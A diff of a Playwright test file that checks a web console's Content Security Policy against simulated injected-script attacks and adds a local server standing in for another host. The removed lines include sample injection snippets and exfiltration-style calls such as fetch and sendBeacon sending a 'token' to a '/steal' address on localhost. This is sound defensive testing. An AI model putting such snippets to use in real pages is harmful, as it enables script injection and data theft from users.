@@ -1,135 +1,95 @@
 import { createServer } from 'node:http';
+import type { Browser, BrowserContext, Page } from '@playwright/test';
 import { securityHeaders } from '../../deploy/security-headers.ts';
 import { consoleUrl } from '../fixtures/addresses.ts';
-import { freePort } from '../fixtures/own-console.ts';
 import { rowOf } from '../fixtures/screens.ts';
-import { expect, test } from '../fixtures/test.ts';
+import { expect, test as base } from '../fixtures/test.ts';
+import { attacksFromThePage, attacksInThePage } from './attacks.ts';
 
-/** What an injected script would try; each returns whether it got through. Sent to the page as text. */
-const attacks: Readonly<Record<string, () => boolean | Promise<boolean>>> = {
-  'writing markup': () => {
-    try {
-      document.body.append(Object.assign(document.createElement('p'), { innerHTML: '<b>x</b>' }));
-      return true;
-    } catch {
-      return false;
-    }
-  },
-  'parsing a document': () => {
-    try {
-      return new DOMParser().parseFromString('<b>x</b>', 'text/html').body.children.length > 0;
-    } catch {
-      return false;
-    }
-  },
-  'a policy of its own': () => {
-    try {
-      const factory: unknown = Reflect.get(window, 'trustedTypes');
-      if (typeof factory !== 'object' || factory === null) return true;
-      const create: unknown = Reflect.get(factory, 'createPolicy');
-      if (typeof create === 'function') Reflect.apply(create, factory, ['evil', {}]);
-      return true;
-    } catch {
-      return false;
-    }
-  },
-  'a script in the page': () => {
-    const script = document.createElement('script');
-    try {
-      script.textContent = 'window.wasAttacked = true';
-    } catch {
-      return false;
-    }
-    document.body.append(script);
-    return Reflect.has(window, 'wasAttacked');
-  },
-  'text as code': () =>
-    new Promise((resolve) => {
-      try {
-        Reflect.apply(setTimeout, window, ['window.wasRun = true', 0]);
-      } catch {
-        resolve(false);
-      }
-      setTimeout(() => resolve(Reflect.has(window, 'wasRun')), 100);
-    }),
-  'an attribute as code': () => {
-    try {
-      document.body.setAttribute('onclick', 'window.wasClicked = true');
-    } catch {
-      return false;
-    }
-    document.body.click();
-    return Reflect.has(window, 'wasClicked');
-  },
-  'a style attribute': () => {
-    document.body.setAttribute('style', 'opacity: 0.5');
-    const isStyled = getComputedStyle(document.body).opacity !== '1';
-    document.body.removeAttribute('style');
-    return isStyled;
-  },
-  'a style sheet in the page': () => {
-    const style = document.createElement('style');
-    style.textContent = 'body { opacity: 0.5 }';
-    document.head.append(style);
-    return getComputedStyle(document.body).opacity !== '1';
-  },
-  'a request to another host': () =>
-    fetch('https://127.0.0.1:9/steal').then(
-      () => true,
-      () => false,
-    ),
-  'a picture of another host': () =>
-    new Promise((resolve) => {
-      const image = new Image();
-      image.addEventListener('load', () => resolve(true));
-      image.addEventListener('error', () => resolve(false));
-      image.src = 'data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==';
-    }),
-  'a beacon': () =>
-    new Promise((resolve) => {
-      document.addEventListener('securitypolicyviolation', () => resolve(false), { once: true });
-      navigator.sendBeacon('https://127.0.0.1:9/steal', 'token');
-      setTimeout(() => resolve(true), 1_000);
-    }),
-  'a form to another host': () =>
-    new Promise((resolve) => {
-      const form = Object.assign(document.createElement('form'), { action: 'https://127.0.0.1:9/', method: 'post' });
-      document.body.append(form);
-      document.addEventListener('securitypolicyviolation', () => resolve(false), { once: true });
-      form.submit();
-      setTimeout(() => resolve(true), 1_000);
-    }),
-  'another base for addresses': () => {
-    document.head.append(Object.assign(document.createElement('base'), { href: 'https://127.0.0.1:9/' }));
-    return document.baseURI.startsWith('https://127.0.0.1:9');
-  },
-  'a frame': () =>
-    new Promise((resolve) => {
-      const frame = document.createElement('iframe');
-      document.addEventListener('securitypolicyviolation', () => resolve(false), { once: true });
-      frame.src = 'https://127.0.0.1:9/';
-      document.body.append(frame);
-      setTimeout(() => resolve(true), 1_000);
-    }),
-  'a socket': () =>
-    new Promise((resolve) => {
-      document.addEventListener('securitypolicyviolation', () => resolve(false), { once: true });
-      try {
-        new WebSocket('wss://127.0.0.1:9/').addEventListener('open', () => resolve(true));
-      } catch {
-        resolve(false);
-      }
-      setTimeout(() => resolve(true), 1_000);
-    }),
-  'the clipboard': () =>
-    navigator.clipboard.readText().then(
-      () => true,
-      () => false,
-    ),
-};
+/** Another host, which lets everybody in and remembers what it was asked for. */
+interface OtherHost {
+  readonly url: string;
+  readonly asked: ReadonlySet<string>;
+}
 
-test('G2: the policy stops what an injected script would try', async ({ account, page, signIn, watch }) => {
+const test = base.extend<{ readonly otherHost: OtherHost }>({
+  // Playwright reads a fixture's needs from its first parameter, even when there are none.
+  // oxlint-disable-next-line no-empty-pattern
+  otherHost: async ({}, provide) => {
+    const asked = new Set<string>();
+    const note = (url: string | undefined): void => void asked.add((url ?? '').slice(1));
+    const server = createServer((request, response) => {
+      note(request.url);
+      response.setHeader('Access-Control-Allow-Origin', '*').setHeader('Content-Type', 'text/html');
+      response.end(
+        `<title>Another host</title><iframe src="${consoleUrl}/"></iframe><iframe src="/innocent"></iframe>`,
+      );
+    });
+    server.on('upgrade', (request, socket) => {
+      note(request.url);
+      socket.destroy();
+    });
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+    const address = server.address();
+    const port = typeof address === 'object' && address !== null ? address.port : 0;
+    await provide({ url: `http://127.0.0.1:${port}`, asked });
+    await new Promise((resolve) => {
+      server.close(resolve);
+      server.closeAllConnections();
+    });
+  },
+});
+
+async function succeededInThePage(page: Page, other: string): Promise<readonly string[]> {
+  const succeeded: string[] = [];
+  for (const [what, attack] of Object.entries(attacksInThePage)) {
+    // One after the other: some change the page for the next.
+    // oxlint-disable-next-line no-await-in-loop
+    if (await page.evaluate(attack, other)) succeeded.push(what);
+  }
+  return succeeded;
+}
+
+async function sendFromThePage(page: Page, other: string): Promise<void> {
+  for (const { run } of Object.values(attacksFromThePage)) {
+    // As above.
+    // oxlint-disable-next-line no-await-in-loop
+    await page.evaluate(run, other);
+  }
+}
+
+/** A page without a policy, in a tab that has what the console's has. */
+async function openBare(browser: Browser): Promise<{ readonly context: BrowserContext; readonly page: Page }> {
+  const context = await browser.newContext({ permissions: ['clipboard-read'] });
+  const page = await context.newPage();
+  return { context, page };
+}
+
+test('the attacks are real: where there is no policy, every one of them gets through', async ({
+  browser,
+  otherHost,
+}) => {
+  const { context, page } = await openBare(browser);
+  try {
+    await page.goto(`${otherHost.url}/bare`);
+    expect(await succeededInThePage(page, otherHost.url)).toEqual(Object.keys(attacksInThePage));
+    await sendFromThePage(page, otherHost.url);
+    await expect.poll(() => [...otherHost.asked]).toEqual(expect.arrayContaining(Object.keys(attacksFromThePage)));
+  } finally {
+    await context.close();
+  }
+});
+
+test('G2: the policy stops what an injected script would try', async ({
+  account,
+  context,
+  otherHost,
+  page,
+  signIn,
+  watch,
+}) => {
   await account.seed([{ name: 'CRM' }]);
+  await context.grantPermissions(['clipboard-read'], { origin: consoleUrl });
   await signIn();
   await expect(rowOf(page, 'CRM')).toBeVisible();
   expect(watch.troubles).toEqual([]);
@@ -137,46 +97,38 @@ test('G2: the policy stops what an injected script would try', async ({ account,
   expect(answer.headers()).toMatchObject(
     Object.fromEntries(Object.entries(securityHeaders()).map(([name, value]) => [name.toLowerCase(), value])),
   );
-  const succeeded: string[] = [];
-  for (const [what, attack] of Object.entries(attacks)) {
-    // One after the other: some wait for the next violation.
+  expect(await succeededInThePage(page, otherHost.url)).toEqual([]);
+  await sendFromThePage(page, otherHost.url);
+  // It has stopped each aloud, by the directive that is meant for it.
+  const told = (): string => watch.troubles.join('\n');
+  for (const [name, { directive }] of Object.entries(attacksFromThePage)) {
+    // Of what would have been framed a page is told the origin only.
+    const path = name === 'frame' ? '' : `/${name}`;
+    // As each is reported.
     // oxlint-disable-next-line no-await-in-loop
-    if (await page.evaluate(attack)) succeeded.push(what);
+    await expect.poll(told).toMatch(new RegExp(`CSP: ${directive} \\w+://127\\.0\\.0\\.1:\\d+${path}\\b`));
   }
-  expect(succeeded).toEqual([]);
-  // It has stopped them aloud, and the console goes on.
-  const told = watch.troubles.splice(0);
-  for (const directive of [
-    'require-trusted-types-for',
-    'trusted-types',
-    'style-src-attr',
-    'style-src-elem',
-    'connect-src',
-    'img-src',
-    'form-action',
-    'base-uri',
-    'frame-src',
-  ]) {
-    expect(told.join('\n')).toContain(`CSP: ${directive}`);
+  for (const directive of ['require-trusted-types-for', 'trusted-types', 'style-src-attr', 'img-src', 'base-uri']) {
+    expect(told()).toContain(`CSP: ${directive}`);
   }
-  // Asked of the page itself: Playwright still waits for the form that the policy has stopped.
+  watch.troubles.splice(0);
+  expect([...otherHost.asked]).toEqual([]);
+  // The console goes on. Asked of the page itself: Playwright still waits for the form that the policy has stopped.
   expect(await page.evaluate(() => document.body.textContent.includes('CRM'))).toBe(true);
 });
 
-test('no other site can frame it', async ({ browser }) => {
-  const server = createServer((_, response) => {
-    response.setHeader('Content-Type', 'text/html').end(`<iframe src="${consoleUrl}/"></iframe>`);
-  });
-  const port = await freePort();
-  await new Promise<void>((resolve) => server.listen(port, '127.0.0.1', resolve));
+test('no other site can frame it', async ({ browser, otherHost }) => {
   const context = await browser.newContext({ ignoreHTTPSErrors: true });
   try {
     const page = await context.newPage();
-    await page.goto(`http://127.0.0.1:${port}/`);
-    const framed = page.frames().find((frame) => frame !== page.mainFrame());
-    await expect.poll(() => framed?.url()).toMatch(/^chrome-error:/);
+    await page.goto(`${otherHost.url}/framing`);
+    const urls = (): readonly string[] =>
+      page
+        .mainFrame()
+        .childFrames()
+        .map((frame) => frame.url());
+    await expect.poll(urls).toEqual([expect.stringMatching(/^chrome-error:/), `${otherHost.url}/innocent`]);
   } finally {
     await context.close();
-    await new Promise((resolve) => server.close(resolve));
   }
 });
